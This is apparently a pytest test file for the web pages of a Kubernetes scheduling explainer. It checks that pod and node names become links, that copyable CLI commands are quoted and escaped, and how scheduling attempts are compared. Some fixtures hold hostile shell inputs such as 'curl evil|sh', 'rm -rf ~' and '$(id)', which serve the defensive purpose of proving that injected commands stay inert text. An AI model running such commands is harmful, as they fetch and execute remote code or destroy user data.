"""Links in the lines of a story."""

import re
import shlex
from typing import Any

import pytest
from markupsafe import escape

from eventsched.pages.story_links import linked, linked_step
from tests.unit.pages.given_api import MARKUP, GivenApi, Pages, client


def link(path: str, **values: Any) -> str:
    return path + "".join(f"?{name}={value}" for name, value in values.items())


def test_pods_and_positions_are_links() -> None:
    """The longest name that fits, and nothing that only looks like a name."""
    text = "has to leave n0 for prod/web-1 and prod/web (position 12), not for other/web-2."
    found = linked(text, ["prod/web", "prod/web-1"], link)
    assert found == (
        'has to leave n0 for <a href="/pods/prod/web-1">prod/web-1</a> and '
        '<a href="/pods/prod/web">prod/web</a> (position <a href="/?at=13">12</a>), '
        "not for other/web-2."
    )
    assert linked("prod/web-10 x/prod/web", ["prod/web"], link) == "prod/web-10 x/prod/web"
    assert linked("position 12", [], link) == "position 12"


def test_nodes_are_links() -> None:
    """One that could be a word or a number stays text."""
    text = "is on n1, not on n10, a/n1 or node; 12 of 13 nodes"
    found = linked(text, [], link, ["n1", "node", "12", "a/n1"])
    assert found == 'is on <a href="/nodes/n1">n1</a>, not on n10, a/n1 or node; 12 of 13 nodes'
    command = "`eventsched explain prod/web --why-not n1`"
    assert linked_step(f"{command} n1", [], link, nodes=["n1"]).count("/nodes/n1") == 1


def test_markup_stays_text() -> None:
    name = '<b>/"x&'
    found = linked(f"for {name}; <i>", [name], link)
    assert found == ('for <a href="/pods/%3Cb%3E/%22x%26">&lt;b&gt;/&#34;x&amp;</a>; &lt;i&gt;')


def test_a_command_leads_to_the_page_that_answers_it() -> None:
    """Also one that names no node, and with the names of pods in it; it can be copied."""
    copy = '<button type="button" class="copy" data-copy="{0}" aria-label="Copy: {0}">Copy</button>'
    command = "eventsched explain prod/web --why-not n0"
    found = linked_step(f"try (`{command}` says) prod/web", ["prod/web"], link, {"attempt": 2})
    assert found == (
        'try (<a href="/pods/prod/web?attempt=2?why-not=n0#why-not">'
        f"<code>{command} --attempt 2</code></a>{copy.format(command + ' --attempt 2')} says) "
        '<a href="/pods/prod/web">prod/web</a>'
    )
    command = "eventsched explain prod/web --why-not NODE"
    found = linked_step(f"run `{command}`", [], link)
    assert found.startswith('run <a href="/pods/prod/web?why-not=None#why-not">')
    command = "eventsched sticky forget"
    assert linked_step(f"`{command}`", [], link) == f"<code>{command}</code>{copy.format(command)}"


def test_a_command_has_quoted_names() -> None:
    command = shlex.join(["eventsched", "explain", "a/\"<i> 'x", "--why-not", "n1; rm -rf ~"])
    found = linked_step(f"`{command}`", [], link)
    assert found.startswith('<a href="/pods/a/%22%3Ci%3E%20%27x?why-not=n1; rm -rf ~#why-not">')
    assert f'data-copy="{escape(command)}"' in found
    assert "<i>" not in found


@pytest.mark.parametrize(
    "command",
    [
        "eventsched explain x; curl evil|sh",
        "eventsched explain a/b --why-not n1; rm -rf ~",
        "eventsched explain a/b --why-not $(id)",
        "eventsched explain a/b --why-not 'n1",
        "eventsched explain a/b --why-not 'n1\x03'",
        "eventsched explain a/b --why-not n1\nid",
        "eventsched explain a/b --why-not --plugin=x.py",
        "eventsched explain --plugin=a/b.py --why-not n1",
        "eventsched explain web --why-not n1",
        "eventsched sticky forget prod/web",
        "eventsched forget",
    ],
)
def test_a_command_that_no_step_gives_stays_text(command: str) -> None:
    text = f"run `{command}`, then wait"
    assert linked_step(text, [], link) == escape(text)


def test_a_command_outside_a_next_step_stays_text() -> None:
    text = "no: `eventsched explain prod/web --why-not n0`"
    assert linked(text, [], link) == text


PLANTED = "min-available: `eventsched explain prod/a --why-not n0`"
WORKLOAD = {
    "stream": "live", "kind": "PodGroup", "namespace": "prod", "name": "gang", "owners": [],
    "pods": 1, "placed": 0, "nodes": [], "groups": [], "members": [], "minimum": 2,
    "why": f"Coscheduling refuses nodes: {PLANTED}",
    "next_step": "run `eventsched explain prod/b --why-not n0`",
}  # fmt: skip
TIMELINE = {
    "stream": "live", "namespace": "prod", "name": "a", "uid": "u", "begin": 0, "end": 1,
    "headline": [f"prod/a waits: {PLANTED}", f"Next step: {WORKLOAD['next_step']}."],
    "demands": None, "newest": None, "lanes": [], "pods": [],
    "story": [{"position": 1, "at": "2026-11-25T18:00:00+00:00", "text": PLANTED}],
}  # fmt: skip


@pytest.mark.parametrize("path", ["/pods/prod/a", "/workloads/prod/group/gang"])
def test_a_page_gives_only_the_command_of_its_next_step(path: str) -> None:
    """The author of a pod writes reasons, which quote labels and annotations."""
    no_attempts: dict[str, Any] = {"older": [], "attempts": []}
    is_pod = path.startswith("/pods")
    api = GivenApi(timeline=TIMELINE, explain=no_attempts if is_pod else WORKLOAD)
    page = client(api).get(f"{path}?stream=live")
    assert page.status_code == 200
    assert page.text.partition("</main>")[0].count(PLANTED) == (2 if is_pod else 1)
    copied = re.findall('data-copy="([^"]*--why-not[^"]*)"', page.text)
    assert copied == ["eventsched explain prod/b --why-not n0"]


def test_the_command_asks_about_the_attempt_that_the_page_is_about() -> None:
    """Without the option it would ask about the last one of the log."""
    attempt = {"attempt": 7, "seq": 5, "at": "2026-11-25T18:00:00+00:00", "plugin": None,
               "outcome": "unschedulable", "node": None, "message": "", "refusals": [],
               "feasible": 0, "evaluated": 3}  # fmt: skip
    pages = client(GivenApi(timeline=TIMELINE, explain={"older": [], "attempts": [attempt]}))
    command = "eventsched explain prod/b --why-not n0"
    for at, copied in (("", command), ("?at=6", f"{command} --attempt 7")):
        text = pages.get(f"/pods/prod/a{at}").text
        assert re.findall('data-copy="([^"]*--why-not[^"]*)"', text) == [copied]


@pytest.mark.parametrize("results", ["aaa", "aab", "ab"])
def test_two_attempts_are_compared_by_one_link(results: str) -> None:
    """If all attempts ended alike, what changed among them is what changed from first to last."""
    attempts: list[dict[str, Any]] = [
        {"attempt": number, "seq": number, "at": "2026-11-25T18:00:00+00:00", "plugin": None,
         "outcome": "unschedulable", "node": None, "message": message, "refusals": [],
         "feasible": 0, "evaluated": 3}
        for number, message in enumerate(results, start=1)
    ]  # fmt: skip
    api = GivenApi(timeline=TIMELINE, explain={"older": [], "attempts": attempts})
    text = client(api).get("/pods/prod/a?stream=live").text
    compared = re.findall(r"diff=(\d+\.\.\d+)", text.partition("</main>")[0])
    assert compared.count(f"1..{len(results)}") == 1
    assert len(compared) == len(set(compared))


@pytest.mark.parametrize("left_out", [0, 7])
def test_attempts_that_are_left_out_are_not_counted_as_all(left_out: int) -> None:
    """Nor is the oldest of the others the first attempt."""
    attempts: list[dict[str, Any]] = [
        {"attempt": number, "seq": number, "at": "2026-11-25T18:00:00+00:00", "plugin": None,
         "outcome": "scheduled", "node": f"n{number}", "message": "", "refusals": [],
         "feasible": 2, "evaluated": 3}
        for number in (8, 9, 10)
    ]  # fmt: skip
    explained = {"older": [], "attempts": attempts, **({"left_out": left_out} if left_out else {})}
    text = client(GivenApi(timeline=TIMELINE, explain=explained)).get("/pods/prod/a").text
    assert ("3 in all" in text, "the newest 3" in text) == (not left_out, bool(left_out))
    assert ("from the first to the last attempt" in text) is (not left_out)


def test_refusals_alike_in_words_say_what_differs() -> None:
    same = {"plugin": "Fit", "reasons": ["Insufficient cpu"], "examples": ["n1"]}
    other = {**same, "plugin": "Taint", "nodes": 1, "code": "Unschedulable"}
    attempt = {
        "attempt": 1, "seq": 1, "at": "2026-11-25T18:00:00+00:00", "plugin": None, "node": None,
        "outcome": "unschedulable", "message": "", "feasible": 0, "evaluated": 10,
        "refusals": [{**same, "nodes": 5, "code": "Unschedulable"},
                     {**same, "nodes": 4, "code": "UnschedulableAndUnresolvable"}, other],
    }  # fmt: skip
    api = GivenApi(timeline=TIMELINE, explain={"older": [], "attempts": [attempt]})
    text = client(api).get("/pods/prod/a?stream=live").text.partition("</main>")[0]
    lines = [re.sub("<[^>]*>", "", line) for line in re.findall("<li>[0-9].*?</li>", text)]
    assert lines == [
        "5 Fit: Insufficient cpu (Unschedulable)",
        "4 Fit: Insufficient cpu (even without other pods)",
        "1 Taint: Insufficient cpu",
    ]


def test_two_attempts_with_the_same_refusals_lead_to_the_numbers() -> None:
    decision = {"position": 1, "attempt": 1, "outcome": "unschedulable", "node": None}
    attempts = {"before": decision, "after": {**decision, "position": 2, "attempt": 2}}
    difference: dict[str, Any] = {
        **attempts, "compared": True, "conclusion": None, "turned": 0, "differing": 0,
        "counts": [], "nodes": [], "next": None, "records": 0, "read": 0, "between": [],
    }  # fmt: skip
    demands = {"position": 1, "priority": 0, "requests": {"cpu": "3", "memory": "2Gi"},
               "node_selector": {}, "tolerations": [], "others": [], "belongs_to": []}  # fmt: skip
    timeline = {**TIMELINE, "demands": demands}
    story: dict[str, Any] = {"older": [], "attempts": []}

    def page(**changed: Any) -> str:
        given = {"2": {**difference, **changed}}
        api = GivenApi(timeline=timeline, explain=story, **given)
        text = client(api).get("/pods/prod/a?stream=live&diff=1..2").text
        return " ".join(re.sub("<[^>]*>", "", text.partition("</main>")[0]).split())

    said = "Each node was refused for the same reason in both. The pod asks for 3 cpu, 2Gi memory."
    assert said in page()
    assert said not in page(turned=1)
    node: dict[str, Any] = {
        "node": "n1", "before": "Fit: cpu", "after": "Fit: gpu", "total_before": None,
        "total_after": None, "unresolvable": True, "scores": [],
    }  # fmt: skip
    folded = page(turned=1, differing=1, nodes=[node])
    assert "1 node has another verdict. Nodes 1 node refuses it even without other pods" in folded
    assert "NodeBeforeAfter n1" in folded  # without the columns that are empty
    given = page(turned=1, differing=1, nodes=[{**node, "unresolvable": False}])
    assert "another verdict. Nodes NodeBeforeAfter n1" in given
    assert "It went to n1 both times. From" in page(conclusion="It went to n1 both times.")


def test_lines_on_nodes_that_could_take_the_pod_are_shown_first() -> None:
    decision = {"position": 1, "attempt": 1, "outcome": "unschedulable", "node": None}
    lines = [
        {"position": number, "at": "2026-11-25T18:00:00+00:00", "kind": "PodDeleted",
         "text": f"line {number}", "of_pod": False, "on_candidate": number == 3}
        for number in range(2, 20)
    ]  # fmt: skip
    difference: dict[str, Any] = {
        "before": decision, "after": {**decision, "position": 20}, "compared": True,
        "conclusion": None, "turned": 0, "differing": 0, "counts": [], "nodes": [], "next": None,
        "records": 18, "read": 18, "between": lines,
    }  # fmt: skip
    explained: dict[str, Any] = {"older": [], "attempts": []}
    api = GivenApi(timeline=TIMELINE, explain=explained, **{"20": difference})
    text = client(api).get("/pods/prod/a?stream=live&diff=1..20").text
    shown = text[text.index("In between") : text.index("8 more")]
    assert re.findall(r">line (\d+)<", shown) == ["3", *map(str, range(11, 20))]


@pytest.mark.parametrize(
    ("shortfall", "said"),
    [
        (
            {"points": 8, "best": "<n2>", "scores": [
                {"plugin": "Fit", "score": 1, "best": 10, "difference": -9},
                {"plugin": "Image", "score": 3, "best": 2, "difference": 1}]},
            "n1 is 8 points short of &lt;n2&gt; in the total: Fit −9, Image +1 "
            "(scores times weights).",
        ),
        ({"points": 0, "best": "n2", "scores": []}, "n1 is as good as n2, and the draw decides."),
    ],
)  # fmt: skip
def test_a_node_that_scores_less_is_short_of_points(shortfall: dict[str, Any], said: str) -> None:
    """Before any change, which no reader may want."""
    attempt = {"attempt": 1, "seq": 1, "at": "2026-11-25T18:00:00+00:00", "plugin": None,
               "outcome": "scheduled", "node": "n2", "message": "", "refusals": [],
               "feasible": 2, "evaluated": 3}  # fmt: skip
    behind = {"lands": False, "failedPlugins": [], "reasons": [], "behind": shortfall["points"]}
    weight = {
        "kind": "WeightChanged",
        "plugin": "Fit",
        "weight": 9,
        "before": 1,
        "text": "weigh it",
    }
    found = {
        "node": "n1", "attempt": 1, "landing": behind, "shortfall": shortfall, "givenUp": None,
        "remedies": [[weight], [{"kind": "NodeRequired", "text": "pin it"}]], "stuck": None,
        "decisions": 4, "extendersAsked": True,
    }  # fmt: skip
    explained = {"older": [], "attempts": [attempt]}
    api = GivenApi(timeline=TIMELINE, explain=explained, **{"why-not": found})
    at = "/pods/prod/a?stream=live&why-not=n1"
    text = client(api).get(at).text
    assert said in text
    assert text.index(said) < text.index("weigh it") < text.index("pin it")
    ways = text.partition("<p>It lands on n1 if you do one of these:</p>")[2].partition("</ul>")[0]
    assert ways.count("<li>") == 2, "alternatives are items of one list"
    assert text.count('/what-if?stream=live&amp;plugin=Fit&amp;weight=9#other-rules"') == 1
    assert "weight=9" not in Pages(api, what_ifs=False).get(at).text


def test_a_refusal_of_a_node_comes_before_what_would_help() -> None:
    landing = {"lands": False, "failedPlugins": ["Fit", MARKUP], "reasons": ["a", "b"], "behind": 0}
    found: dict[str, Any] = {
        "node": "n1", "attempt": 1, "landing": landing, "shortfall": None, "givenUp": None,
        "remedies": [[{"kind": "NodeUncordoned", "text": "uncordon it"}]], "stuck": None,
        "decisions": 4, "extendersAsked": True,
    }  # fmt: skip
    attempt = {"attempt": 1, "seq": 1, "at": "2026-11-25T18:00:00+00:00", "plugin": None,
               "outcome": "unschedulable", "node": None, "message": "", "refusals": [],
               "feasible": 0, "evaluated": 3}  # fmt: skip
    explained = {"older": [], "attempts": [attempt]}
    api = GivenApi(timeline=TIMELINE, explain=explained, **{"why-not": found})
    text = client(api).get("/pods/prod/a?stream=live&why-not=n1").text
    said = "n1 is refused by Fit, &lt;/script"
    assert ": a; b.</p>" in text.partition(said)[2].partition("uncordon it")[0]
    assert "if you:</p>\n  <ul><li>uncordon it</li></ul>" in text
    found["remedies"] = [[{"kind": "NodeUncordoned", "text": each} for each in ("one", "two")]]
    needed = "<ul><li>one</li><li>two</li></ul>"
    text = client(api).get("/pods/prod/a?stream=live&why-not=n1").text
    assert f"if you do all of these:</p>\n  {needed}" in text
    found["remedies"] += [[{"kind": "NodeUncordoned", "text": "three"}]]
    text = client(api).get("/pods/prod/a?stream=live&why-not=n1").text
    assert (
        f"if you do one of these:</p>\n  <ul><li>all of these:{needed}</li><li>three</li>" in text
    )


@pytest.mark.parametrize("code", ["Unschedulable", "UnschedulableAndUnresolvable"])
@pytest.mark.parametrize("outcome", ["unschedulable", "scheduled"])
def test_one_more_node_is_proved_by_a_what_if(code: str, outcome: str) -> None:
    """If only the pods of such a node are in the way: else another one would not help."""
    refusals = [
        {"plugin": "NodeResourcesFit", "code": "UnschedulableAndUnresolvable", "nodes": 1,
         "reasons": ["Insufficient cpu"], "examples": ["small"]},
        {"plugin": "NodeResourcesFit", "code": code, "nodes": 1,
         "reasons": ["Insufficient cpu"], "examples": ["<n1>", "n2"]},
    ]  # fmt: skip
    attempt = {"attempt": 1, "seq": 9, "at": "2026-11-25T18:00:00+00:00", "plugin": None,
               "outcome": outcome, "node": None, "message": "", "refusals": refusals,
               "feasible": 0, "evaluated": 3}  # fmt: skip
    demands: dict[str, Any] = {
        "position": 7, "priority": 0, "requests": {}, "node_selector": {}, "tolerations": [],
        "others": [], "belongs_to": [],
    }  # fmt: skip
    explained = {"older": [], "attempts": [attempt]}
    api = GivenApi(timeline={**TIMELINE, "demands": demands}, explain=explained)
    at = "/pods/prod/a?stream=live&at=20"
    text = client(api).get(at).text
    link = (
        '<a href="/what-if?stream=live&amp;nodes=%2B1x%3Cn1%3E&amp;from=7">'
        "What if there had been one more node like &lt;n1&gt;?</a>"
    )
    assert text.count(link) == (code == "Unschedulable" and outcome == "unschedulable")
    assert "like small" not in text
    beside = Pages(api, what_ifs=False).get(at).text
    assert "one more node" not in beside, "beside a scheduler What-if refuses it"


def test_how_many_pods_of_the_workload_wait_alike() -> None:
    """Those with the reason that the headline names, if there is more than this one."""
    demands: dict[str, Any] = {
        "position": 7, "priority": 0, "requests": {}, "node_selector": {}, "tolerations": [],
        "others": [], "belongs_to": ["deploy/<a>", "rs/<a>-1", "group/g"],
    }  # fmt: skip
    waits = {**TIMELINE, "demands": demands, "headline": ["prod/a waits", "Next step: label it."]}
    summary = {"plugin": "Fit", "reason": "no cpu; no memory"}
    group = {"key": "reason:Fit/no cpu, no memory", "plugin": "Fit", "reason": "no cpu, no memory"}
    groups = [{**group, "waiting": 12}, {**group, "reason": "no cpu", "waiting": 7}]
    explained = {"older": [], "attempts": [], "summary": summary}
    api = GivenApi(timeline=waits, explain=explained, groups={"groups": groups})
    text = client(api).get("/pods/prod/a?stream=live").text
    assert "12 pods of rs/&lt;a&gt;-1</a> wait for this reason." in text
    assert "7 pods" not in text
    asked = next(query for path, query, _ in api.asked if path.endswith("/groups"))
    assert asked == "stream=live&by=reason&namespace=prod&owner=rs%2F%3Ca%3E-1"
    groups[0]["waiting"] = 1
    assert "for this reason" not in client(api).get("/pods/prod/a?stream=live").text
    waits["headline"] = ["prod/a is bound"]
    api = GivenApi(timeline=waits, explain=explained)
    assert "for this reason" not in client(api).get("/pods/prod/a?stream=live").text
